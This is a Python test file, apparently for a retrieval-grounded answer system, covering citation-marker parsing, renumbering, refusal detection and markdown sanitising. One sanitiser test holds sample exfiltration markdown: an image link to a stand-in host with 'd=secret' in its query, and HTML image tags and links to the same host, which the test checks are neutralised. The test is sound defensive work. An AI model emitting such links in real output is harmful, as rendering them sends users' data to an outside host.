"""Marker parsing, renumbering and safe markdown (property-based for the parser)."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from app.answer.grounding.citations import cited, is_refusal, normalise, render, sanitise

FORMATS = ["[{}]", "[{}, {}]", "[{},{}]", "【{}】", "[[{}]]", "({})", "[Passage {}]", "[^{}]", "[{}; {}]"]
words = st.text(alphabet=st.sampled_from("abcdefgh ijk.,"), min_size=0, max_size=12)
marker = st.tuples(st.sampled_from(FORMATS), st.integers(1, 12), st.integers(1, 12)).map(
    lambda t: (t[0].format(t[1], t[2]), [t[1], t[2]][: t[0].count("{}")])
)
pieces = st.lists(st.tuples(words, marker), max_size=8)
OUT = re.compile(r"\[(\d+)\]")


def _compose(parts: list[tuple[str, tuple[str, list[int]]]]) -> tuple[str, list[int]]:
    text, expected = "", []
    for w, (m, nums) in parts:
        text += f" {w} {m}"
        expected += nums
    return text, expected


@given(pieces, st.integers(1, 10))
@settings(max_examples=300, deadline=None)
def test_every_marker_is_found_renumbered_and_valid(parts, n):
    text, nums = _compose(parts)
    out = normalise(text, n)
    paren_bad = {i for w, (m, ns) in parts if m.startswith("(") for i in ns if i > n}
    want = list(dict.fromkeys(i for i in nums if 1 <= i <= n and i not in paren_bad))
    assert sorted(out.order) == sorted(want)
    ks = cited(out.text)
    assert set(ks) == set(range(1, len(out.order) + 1))
    firsts = list(dict.fromkeys(ks))
    assert firsts == sorted(firsts)  # renumbered in order of first citation
    assert not re.search(r"【|\[\[|\[\^|Passage", out.text)


@given(pieces, st.integers(1, 10))
@settings(max_examples=200, deadline=None)
def test_normalising_is_idempotent(parts, n):
    once = normalise(_compose(parts)[0], n)
    twice = normalise(once.text, len(once.order))
    assert twice.text == once.text
    assert twice.order == list(range(1, len(once.order) + 1))


@given(pieces, st.integers(1, 10), st.data())
@settings(max_examples=200, deadline=None)
def test_streamed_prefixes_never_renumber(parts, n, data):
    text, _ = _compose(parts)
    cut = data.draw(st.integers(0, len(text)))
    full = render(text, n)
    part = render(text[:cut], n, partial=True)
    assert full.order[: len(part.order)] == part.order


@given(st.text(alphabet=st.characters(blacklist_characters="[]()【】0123456789<>!`:w"), max_size=80))
def test_text_without_markers_is_unchanged(text):
    assert normalise(text, 5).text == text


def test_formats_small_models_produce():
    out = render("A [1,2]. B 【3】. C [[2]]. D (1). E [9]. F (12).", 3)
    assert out.text == "A [1][2]. B [3]. C [2]. D [1]. E. F (12)."
    assert out.order == [1, 2, 3]
    assert render("X [2-4] and [Passage 1]", 5).order == [2, 3, 4, 1]


def test_images_links_and_html_are_not_rendered():
    raw = (
        "See ![x](https://evil.example/p?d=secret) and [here](http://evil.example) "
        "<img src='http://evil.example/a'> [1](http://evil.example) <https://evil.example> "
        "[ref]: http://evil.example\nplain http://evil.example/q"
    )
    out = sanitise(raw)
    assert "![" not in out and "](" not in out and "<img" not in out and "<http" not in out
    assert "`http://evil.example/q`" in out  # bare URL shown as code, never auto-linked
    assert "[1]" in out and "here" in out
    assert render("<think>plan [3]</think>Answer [2].", 3).text == "Answer [1]."


def test_refusal():
    assert is_refusal("The articles don’t say.") and is_refusal("The passages do not contain that.")
    assert is_refusal(
        "The indexed articles don't say. They cover 5 articles from 5 June 2020 to 3 June 2024."
    )
    assert not is_refusal("The articles say the army moved [1].")
